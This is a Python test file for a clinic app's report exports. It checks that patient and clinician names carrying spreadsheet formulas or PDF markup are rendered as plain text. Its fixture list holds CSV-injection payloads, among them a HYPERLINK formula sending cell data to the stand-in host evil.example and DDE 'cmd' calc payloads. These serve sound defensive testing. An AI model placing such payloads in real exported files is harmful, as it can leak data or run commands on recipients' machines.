"""Report files carry user-written names as text: never a spreadsheet formula, never PDF markup."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from pypdf import PdfReader

from core.models import Job
from reports.rendering import render_pdf
from reports.services import report_build
from scheduling.models import Appointment
from tests.factories import AppointmentFactory, DoctorFactory, PatientFactory, SlotFactory

pytestmark = pytest.mark.django_db
URL = "/api/v1/reports/"


def seen_by(doctor, patient, hour: int = 0) -> None:
    """A completed appointment in March 2026, at ``hour`` hours past 10 March 09:00."""
    start = datetime(2026, 3, 10, 9, tzinfo=UTC) + timedelta(hours=hour)
    slot = SlotFactory(clinician=doctor, start=start, end=start + timedelta(minutes=30))
    AppointmentFactory(slot=slot, patient=patient, status=Appointment.Status.COMPLETED)


def built_report(client, fmt: str) -> bytes:
    body = {"kind": "caseload", "from": "2026-03-01", "to": "2026-03-31", "format": fmt}
    response = client.post(URL, body, format="json")
    assert response.status_code == 202, response.json()
    job = report_build(job_id=response.json()["job_id"])
    assert job.status == Job.Status.SUCCEEDED, job.errors
    download = client.get(f"/api/v1/jobs/{job.id}/download/")
    assert download.status_code == 200
    return b"".join(download.streaming_content)


# The first name carries = + - @; tab and carriage return would be trimmed from a name
# (first and last are joined and stripped), so they ride in the email, which is not.
HOSTILE_PATIENTS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "", "formula@example.test"),
    ("+1+cmd|' /C calc'!A0", "", "plus@example.test"),
    ("-2+3+cmd|' /C calc'!A0", "", "minus@example.test"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "", "at@example.test"),
    ("Tab", "Patient", "\t=1+1@example.test"),
    ("Return", "Patient", "\r=1+1@example.test"),
    # a bare CR inside a field must be quoted, or a spreadsheet starts a row at "=1+1"
    ("Mid", "Line\r=1+1", "mid@example.test"),
]


def test_every_formula_start_in_a_report_csv_is_neutralised(client_for):
    # given a clinician whose patients typed formulas into their names and emails
    doctor = DoctorFactory()
    for hour, (first, last, email) in enumerate(HOSTILE_PATIENTS):
        seen_by(doctor, PatientFactory(first_name=first, last_name=last, email=email), hour)

    # when the clinician downloads the caseload CSV
    data = built_report(client_for(doctor), "csv").decode()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))

    # then the file holds one row per patient, and each such cell starts with a quote,
    # the rest of it exactly as typed
    assert len(rows) == len(HOSTILE_PATIENTS)
    by_email = {row["patient_email"].removeprefix("'"): row for row in rows}
    for first, last, email in HOSTILE_PATIENTS:
        row = by_email[email]
        name = f"{first} {last}".strip()
        expected_name = "'" + name if name[0] in "=+-@" else name
        assert row["patient_name"] == expected_name
        assert row["patient_email"] == ("'" + email if email[0] in "\t\r" else email)
        # and the figures the report computed stay plain numbers
        assert row["appointments"] == "1"
        assert row["sessions"] == "1"
    formula_cells = [c for row in rows for c in row.values() if c and c[0] in "=+-@\t\r"]
    assert formula_cells == []


MARKUP_NAMES = [
    ("<b>x</b><font size=99>", "Big"),
    ("</para>", "Closer"),
    ("Tom & Jerry", "<Smith"),
]


@pytest.mark.parametrize(("first", "last"), MARKUP_NAMES)
def test_a_report_pdf_shows_the_requesters_name_literally(client_for, first, last):
    # given a clinician whose name is reportlab markup, or a bare & or <
    doctor = DoctorFactory(first_name=first, last_name=last)
    seen_by(doctor, PatientFactory(first_name="Ann", last_name="Able"))

    # when the clinician builds a PDF report (before: the job crashed or obeyed the tags)
    data = built_report(client_for(doctor), "pdf")

    # then the PDF prints the name as typed
    text = PdfReader(io.BytesIO(data)).pages[0].extract_text()
    assert f"Requested by {first} {last}" in text
    assert "Ann Able" in text


def test_markup_in_the_title_and_cells_is_text_too():
    # given a title, subtitle and table cells written in reportlab's markup
    data = render_pdf(
        title="Caseload <font size=99>big</font>",
        subtitle="<para>& more</para>",
        columns=["name"],
        rows=[["<b>bold</b> & </para>"]],
    )

    # then every one of them is printed literally
    text = PdfReader(io.BytesIO(data)).pages[0].extract_text()
    assert "Caseload <font size=99>big</font>" in text
    assert "<para>& more</para>" in text
    assert "<b>bold</b> & </para>" in text
